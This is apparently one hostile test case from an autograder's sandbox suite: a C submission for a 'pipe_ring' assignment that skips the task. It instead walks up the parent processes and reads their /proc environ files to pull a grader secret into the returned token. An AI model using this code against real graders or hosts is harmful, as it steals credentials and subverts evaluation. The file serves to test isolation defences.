/* ATTACK 35: reads the environment of the grader, where tokens are.
 * assignment: pipe_ring
 * gains: a secret of the grader in the student's report
 * expect: sealed_out
 * max-score: 0
 * layers: object, namespaces, uid, capabilities
 * off: output SECRET
 */
#include "pipe_ring.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* What comes behind the mark in the file, told as a token: the report shows which one came back. */
static void tell(const char *path, const char *mark, uint64_t *token)
{
	char text[65536];
	int fd = open(path, O_RDONLY);
	ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
	text[length < 0 ? 0 : length] = 0;
	for (ssize_t i = 0; i < length; i++)
		text[i] = text[i] ? text[i] : ' ';
	const char *found = strstr(text, mark);
	if (found && token)
		*token = strtoull(found + strlen(mark), NULL, 16);
	if (fd >= 0)
		close(fd);
}

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)nodes;
	(void)laps;
	(void)step;
	(void)ctx;
	for (int pid = getppid(); pid > 1;) {
		char path[64], line[512] = "";
		snprintf(path, sizeof path, "/proc/%d/environ", pid);
		tell(path,
		     "kit-hostile-"
		     "secret-",
		     token);
		snprintf(path, sizeof path, "/proc/%d/stat", pid);
		int fd = open(path, O_RDONLY);
		ssize_t length = fd < 0 ? 0 : read(fd, line, sizeof line - 1);
		line[length > 0 ? length : 0] = 0;
		const char *parent = strrchr(line, ')');
		pid = parent && strlen(parent) > 4 ? atoi(parent + 4) : 0;
		close(fd);
	}
	return 0;
}
